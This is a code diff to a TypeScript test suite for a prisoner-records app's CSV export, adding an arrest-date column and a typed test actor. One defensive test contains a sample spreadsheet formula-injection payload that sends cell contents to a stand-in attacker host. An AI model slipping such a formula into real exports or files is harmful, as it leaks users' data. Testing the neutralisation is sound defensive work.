@@ -7,6 +7,10 @@ import { CreateSourceDto } from '../../../src/modules/sources/sources.dto'
 import { SourcesService } from '../../../src/modules/sources/sources.service'
 import { validateDto } from '../../../src/shared/dto'
 import { SEED, TestApp, buildTestApp } from '../../helpers/test-app'
+import type { Actor } from '../../../src/core/access/actors'
+
+/** Records written straight through the service, as the seed writes them. */
+const TEST_ACTOR: Actor = { name: 'test', key: null, role: 'seed' }
 
 const TODAY = new Date().toISOString().slice(0, 10)
 
@@ -71,6 +75,8 @@ function expectedRow(record: PrisonerDocument): Record<string, string> {
     sentence_citations: cites(record.sentence),
     release_date_citations: cites(record.releaseDate),
     destination_citations: cites(record.destination),
+    arrest_date: str(record.arrestDate.value),
+    arrest_date_citations: cites(record.arrestDate),
   }
 }
 
@@ -111,12 +117,13 @@ t.test('csv: one row per record, values and citations readable and traceable', a
     Object.keys(rows[0]),
     [
       'id', 'version', 'name', 'name_alternatives', 'nationality', 'status', 'sentence_text', 'sentence_term_months',
-      'sentence_sentenced_in', 'sentence_charges', 'release_date', 'destination_country', 'destination_place', 'identifiers', 'events', 'created_at',
+      'sentence_sentenced_in', 'sentence_charges', 'release_date', 'destination_country', 'destination_place', 'identifiers', 'arrest_date', 'events', 'created_at',
       'updated_at', 'name_citations', 'name_alternatives_citations', 'nationality_citations', 'nationality_alternatives',
       'nationality_alternatives_citations', 'status_citations', 'status_alternatives', 'status_alternatives_citations',
       'sentence_citations', 'sentence_alternatives', 'sentence_alternatives_citations', 'release_date_citations',
       'release_date_alternatives', 'release_date_alternatives_citations', 'destination_citations', 'destination_alternatives',
       'destination_alternatives_citations', 'identifiers_citations', 'identifiers_alternatives', 'identifiers_alternatives_citations',
+      'arrest_date_citations', 'arrest_date_alternatives', 'arrest_date_alternatives_citations',
     ],
   )
   for (const row of rows) {
@@ -148,7 +155,7 @@ t.test('csv: a cell that a spreadsheet would run as a formula is neutralised', a
   const hostile = '=HYPERLINK("https://attacker.example/?leak="&A1,"Ihar")'
   const source = await new SourcesService(database).create(
     validateDto(CreateSourceDto, { title: 'A hostile page', kind: 'other', content: `The list names ${hostile} among the freed.` }, 'body'),
-    { actor: 'test' },
+    { actor: TEST_ACTOR },
   )
   const cited = (quote: string) => [{ sourceId: source.id, quote }]
   const written = await new PrisonersService(database).create(
@@ -160,7 +167,7 @@ t.test('csv: a cell that a spreadsheet would run as a formula is neutralised', a
       },
       'body',
     ),
-    { actor: 'test' },
+    { actor: TEST_ACTOR },
   )
   const rows = csvRows(text(await download(http, 'csv')))
   t.equal(rows.length, 15)
